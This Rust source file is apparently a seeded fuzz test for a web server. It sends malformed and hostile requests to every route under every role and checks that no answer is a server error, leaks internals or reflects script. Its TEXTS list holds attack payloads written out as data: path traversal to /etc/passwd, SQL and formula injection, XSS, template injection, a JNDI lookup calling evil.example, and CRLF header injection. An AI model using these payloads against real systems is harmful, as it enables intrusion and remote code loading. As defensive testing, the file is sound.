//! What nobody means well sends: bad tokens, broken percents, huge fields, wrong types, NUL, full-width formulas, keys
//! twice, to every address of the table as everybody. No answer is a fault of ours, none tells how we are made.
//! Two thousand inputs; `KAISHI_HOSTILE=10000` and more, with `KAISHI_HOSTILE_SEED` for other ones.

use std::fmt::Write as _;

use crate::house::on_both;
use crate::rights::world::World;
use axum::body::Body;
use axum::http::{Request, StatusCode, header};
use kaishi_domain::actor::Role;
use kaishi_domain::chance::{Chance, Seeded};
use kaishi_server::route::right::Who;
use kaishi_server::route::right::table::TABLE;

/// A number from a variable of the environment.
fn number(name: &str, otherwise: u64) -> u64 {
    std::env::var(name).ok().and_then(|text| text.parse().ok()).unwrap_or(otherwise)
}

/// A generator of nastiness: the same seed, the same inputs.
struct Nasty(Seeded);

/// Texts that have broken something somewhere.
const TEXTS: [&str; 26] = [
    "",
    " ",
    "\0",
    "a\0b",
    "../../../../etc/passwd",
    "..%2f..%2fCargo.toml",
    "＝cmd|' /C calc'!A0",
    "=1+1",
    "'; drop table account; --",
    "<script>alert(1)</script>",
    "</textarea><img src=x onerror=alert(1)>",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "\u{202e}txt.exe",
    "𠮷𠮷𠮷",
    "-1",
    "9223372036854775808",
    "1e999",
    "NaN",
    "0x10",
    "２０２３-０５-１３",
    "2023-02-31",
    "25:61",
    "\r\nset-cookie: sid=1",
    "null",
    "[]",
];

impl Nasty {
    fn below(&mut self, most: usize) -> usize {
        let mut bytes = [0; 8];
        self.0.fill(&mut bytes);
        (u64::from_be_bytes(bytes) % most as u64) as usize
    }

    fn text(&mut self) -> String {
        match self.below(8) {
            0 => "长".repeat(1 + self.below(4000)),
            1 => "A".repeat(40),
            2 => format!("{}", self.below(1 << 40)),
            _ => TEXTS[self.below(TEXTS.len())].to_owned(),
        }
    }

    /// A part of a path: whatever can stand there at all.
    fn part(&mut self) -> String {
        match self.below(5) {
            0 => "%".to_owned(),
            1 => "%FF%FE".to_owned(),
            2 => "%00".to_owned(),
            3 => "A".repeat(1 + self.below(300)),
            _ => encode(&self.text().chars().take(60).collect::<String>()),
        }
    }

    fn path(&mut self, pattern: &str, own: &str) -> String {
        let mut path = if self.below(3) == 0 { own.to_owned() } else { self.worse(pattern) };
        if self.below(3) == 0 {
            path = format!("{path}?{}", self.form());
        }
        path
    }

    fn worse(&mut self, pattern: &str) -> String {
        let parts = pattern
            .split('/')
            .skip(1)
            .map(|part| if part.starts_with('{') { self.part() } else { part.to_owned() });
        format!("/{}", parts.collect::<Vec<_>>().join("/"))
    }

    fn form(&mut self) -> String {
        const NAMES: [&str; 24] = [
            "name", "login", "password", "verb", "role", "org", "above", "kind", "code", "plan", "revision",
            "stage", "words", "unit", "zone", "n", "from", "until", "lang", "before", "after", "t",
            "version", "reason",
        ];
        let fields = (0..self.below(8)).map(|_| {
            let name = NAMES[self.below(NAMES.len())];
            let value = if self.below(6) == 0 { "%GG%".to_owned() } else { encode(&self.text()) };
            format!("{name}={value}")
        });
        fields.collect::<Vec<_>>().join("&")
    }

    fn json(&mut self) -> String {
        match self.below(6) {
            0 => "[".repeat(1 + self.below(3000)),
            1 => r#"{"market":1,"market":2,"plan":"fair"}"#.to_owned(),
            2 => r#"{"n":1e999,"s":"\ud800"}"#.to_owned(),
            3 => "{".to_owned(),
            4 => serde_json::json!({"market": self.text(), "plan": self.text(), "records": [self.text(), {"n": -1}]}).to_string(),
            _ => serde_json::json!({"market": [], "token": {}, "lang": self.text(), "diff": [null]}).to_string(),
        }
    }
}

fn encode(text: &str) -> String {
    text.bytes().fold(String::new(), |mut coded, byte| {
        let _ = write!(coded, "%{byte:02X}");
        coded
    })
}

/// What an answer must never say.
const INSIDES: [&str; 9] =
    ["panicked", "sqlx", "SQLITE", "sqlite", "where org_id", "insert into", ".rs:", "Backtrace", "postgres"];

#[tokio::test]
async fn no_input_is_answered_with_a_fault_of_ours() {
    let (inputs, seed) = (number("KAISHI_HOSTILE", 2000), number("KAISHI_HOSTILE_SEED", 20_230_513));
    on_both(|house| async move {
        let world = World::build(&house).await;
        let tokens = World::tokens(&house);
        let mut nasty = Nasty(Seeded::new(seed));
        for n in 0..inputs {
            let (method, pattern, who) = TABLE[nasty.below(TABLE.len())];
            // Streams have no end, and who signs out or is put out asks no more.
            if pattern.ends_with("/events") || pattern == "/logout" || pattern.starts_with("/o/people") {
                continue;
            }
            let token = match who {
                Who::Link(purpose) => tokens.iter().find(|(kind, _)| *kind == purpose).map(|(_, token)| token.as_str()),
                _ => None,
            };
            let own = world.own.fill(&pattern.replace("{token}", token.unwrap_or("A")));
            let path = nasty.path(pattern, &own);
            let mut browser = match nasty.below(Role::ALL.len() + 1) {
                0 => house.browser(),
                role => world.browser(&house, Role::ALL[role - 1]),
            };
            let Ok(uri) = path.parse::<axum::http::Uri>() else { continue };
            let mut request = Request::builder().method(method).uri(uri).header("sec-fetch-site", "same-origin");
            let body = if method == "GET" {
                String::new()
            } else if nasty.below(3) == 0 || pattern.starts_with("/api/") {
                request = request.header(header::CONTENT_TYPE, "application/json");
                nasty.json()
            } else if nasty.below(5) == 0 {
                request = request.header(header::CONTENT_TYPE, "multipart/form-data; boundary=x");
                format!("--x\r\ncontent-disposition: form-data; name=\"file\"; filename=\"../../x\"\r\n\r\n{}\r\n--x--\r\n", nasty.text())
            } else {
                request = request.header(header::CONTENT_TYPE, "application/x-www-form-urlencoded");
                nasty.form()
            };
            let told = format!("input {n}: {method} {path} {}", body.chars().take(300).collect::<String>());
            let answer = browser.send(request, Body::from(body)).await;
            let waits = answer.status == StatusCode::SERVICE_UNAVAILABLE && answer.headers.contains_key(header::RETRY_AFTER);
            assert!(!answer.status.is_server_error() || waits, "{told}\n{} {}", answer.status, answer.body);
            let kind = answer.headers.get(header::CONTENT_TYPE).map_or("", |kind| kind.to_str().unwrap());
            if kind.starts_with("text/") {
                for inside in INSIDES {
                    assert!(!answer.body.contains(inside), "{told}\ntells {inside}: {}", answer.body);
                }
            }
            assert!(!answer.body.contains("<script>alert(1)"), "{told}");
        }
    })
    .await;
}
